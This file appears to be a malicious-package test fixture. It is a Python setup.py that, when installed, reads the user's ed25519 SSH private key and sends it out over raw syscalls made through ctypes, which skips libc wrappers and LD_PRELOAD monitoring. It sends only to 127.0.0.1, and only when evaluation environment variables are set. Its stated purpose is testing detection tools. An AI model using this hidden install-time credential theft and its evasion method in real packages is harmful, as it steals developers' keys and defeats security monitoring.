# Evaluation fixture (malicious): exfiltration through raw system calls.
# Module-level code calls syscall(2) through ctypes for socket, connect and
# write, so no libc wrapper (and no LD_PRELOAD hook on one) ever runs, and
# sends the ed25519 SSH key to a hard-coded collector.  Acts only inside
# the evaluation: 127.0.0.1 at SP_SINK_PORT; x86-64 and aarch64 only.
import ctypes
import os
import platform
import socket
import struct

from setuptools import setup

# socket, connect, write, close
NR = {"x86_64": (41, 42, 1, 3), "aarch64": (198, 203, 64, 57)}


def _send(port, data):
    nr = NR.get(platform.machine())
    if not nr:
        return
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    fd = libc.syscall(ctypes.c_long(nr[0]), ctypes.c_long(socket.AF_INET),
                      ctypes.c_long(socket.SOCK_STREAM), ctypes.c_long(0))
    if fd < 0:
        return
    sa = ctypes.create_string_buffer(struct.pack("!HH4s8x", 0, port, socket.inet_aton("127.0.0.1")))
    struct.pack_into("=H", sa, 0, socket.AF_INET)
    buf = ctypes.create_string_buffer(data, len(data))
    if libc.syscall(ctypes.c_long(nr[1]), ctypes.c_long(fd), sa, ctypes.c_long(16)) == 0:
        libc.syscall(ctypes.c_long(nr[2]), ctypes.c_long(fd), buf, ctypes.c_long(len(data)))
    libc.syscall(ctypes.c_long(nr[3]), ctypes.c_long(fd))


_port = int(os.environ.get("SP_SINK_PORT", "0"))
if _port and os.environ.get("SP_TOKEN"):
    try:
        with open(os.path.expanduser("~/.ssh/id_ed25519"), "rb") as _f:
            _send(_port, _f.read())
    except OSError:
        pass

setup(name="raw-syscall-exfil", version="0.2.0", py_modules=["tinylogfmt"])
